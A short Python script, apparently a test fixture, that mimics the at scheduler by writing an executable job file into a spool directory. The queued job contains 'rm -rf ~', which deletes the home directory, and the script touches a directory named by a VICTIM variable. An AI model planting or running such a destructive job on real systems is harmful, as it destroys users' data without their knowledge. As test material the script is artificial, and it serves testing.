# kind: a job put into a spool, as at does
# check: stdout
import os
home = os.getcwd()
os.mkdir("spool")
os.chdir(os.environ["VICTIM"])
os.chdir(home)
os.system("printf 'rm -rf ~\\n' > spool/a0001; chmod 700 spool/a0001")
print(os.listdir("spool"))
